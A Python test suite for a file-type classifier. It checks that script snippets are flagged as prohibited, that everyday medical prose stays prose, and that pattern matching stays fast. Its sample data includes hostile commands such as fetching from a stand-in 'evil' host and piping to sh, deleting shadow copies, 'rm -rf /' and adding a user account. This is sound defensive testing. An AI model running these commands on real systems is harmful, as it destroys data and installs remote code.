import time

import pytest

from formats.families import PROHIBITED_FAMILIES
from formats.statements import kind_of_statement
from formats.textual import kind_of_text

STATEMENTS = {
    b"Invoke-WebRequest http://evil/a.exe -OutFile a.exe": "text/x-powershell",
    b"# a remark\nIEX (New-Object Net.WebClient)": "text/x-powershell",
    b"<#\n.SYNOPSIS\n#>\nStart-Process calc": "text/x-powershell",
    b"$ErrorActionPreference = 'Stop'\nStart-Process calc": "text/x-powershell",
    b"Set-ExecutionPolicy Bypass -Force": "text/x-powershell",
    b"function Get-X { param($a) calc }": "text/x-powershell",
    b"echo off\r\nstart calc.exe": "text/x-msdos-batch",
    b"net user x y /add": "text/x-msdos-batch",
    b"vssadmin delete shadows /all /quiet": "text/x-msdos-batch",
    b"copy C:\\a.exe C:\\b.exe": "text/x-msdos-batch",
    b'Dim s\r\nSet s = CreateObject("WScript" & ".Shell")': "text/vbscript",
    b"' a remark\r\nExecuteGlobal(x)": "text/vbscript",
    b"var x = 'W' + 'Script'; eval(x);": "text/javascript",
    b"(function(){ x })()": "text/javascript",
    b'/* a remark */ "use strict";': "text/javascript",
    b"import os\nos.system('calc')": "text/x-python",
    b"from urllib.request import urlopen": "text/x-python",
    b"use strict;\nsystem('x');": "text/x-perl",
    b"curl https://evil/a | sh": "text/x-shellscript",
    b"set -e\nrm -rf /": "text/x-shellscript",
    b"[{000214A0-0000}]\r\nProp3=19,11\r\n[InternetShortcut]\r\nURL=x": "application/x-mswinurl",
    b"[ViewState]\r\nMode=\r\n[.ShellClassInfo]\r\n": "application/x-windows-desktop-ini",
    b"; a remark\r\n[AutoRun]\r\nopen=a.exe": "application/x-windows-autorun",
    b"# a remark\n[Desktop Entry]\nExec=x": "application/x-desktop",
    b"[Shell]\r\nIconFile=\\\\evil\\a": "application/x-windows-scf",
    b'; x\r\n[Version]\r\nSignature = "$Windows NT$"': "application/x-setupscript",
    b"full address:s:evil\r\n": "application/x-rdp",
    b"[oledb]\r\nProvider=x": "application/x-data-link",
}


@pytest.mark.parametrize("text", STATEMENTS)
def test_a_text_that_begins_with_a_statement_is_a_script(text: bytes) -> None:
    """Remarks and other sections before it hide nothing."""
    kind = kind_of_text(text)
    assert kind.media_type == STATEMENTS[text]
    assert kind.family in PROHIBITED_FAMILIES


@pytest.mark.parametrize(
    "prose",
    [
        b"Run Invoke-WebRequest only when told to.",
        b"# Handbook\n\nUse `net user` to list people.",
        b"copy of the letter to the family doctor",
        b"start of treatment: 3 May",
        b"let us begin with the history",
        b"import of records, second week",
        b"from ward 3 to ward 4",
        b"Dim light is advised.\n",
        b"net weight 80 kg",
        b"[General]\nname=a\n",
        b"[version] 3 of the form",
        b"-- end of the letter --",
        b"move the patient to room 4 / 5",
        b"; a remark\n",
        b"$5 a day",
        b"function of the liver: normal",
    ],
)
def test_prose_that_names_commands_stays_prose(prose: bytes) -> None:
    """A sentence may begin with the word of a command."""
    assert kind_of_statement(prose.lower()) is None


@pytest.mark.parametrize("filling", [b"#\n", b"<#", b"/* ", b"' \n", b"-- ", b"dim a\n", b"[a]\n"])
def test_no_filling_takes_long(filling: bytes) -> None:
    """Patterns over remarks and sections stay linear."""
    text = (filling * 40_000)[:65_536]
    started = time.process_time()
    kind_of_statement(text)
    assert time.process_time() - started < 1
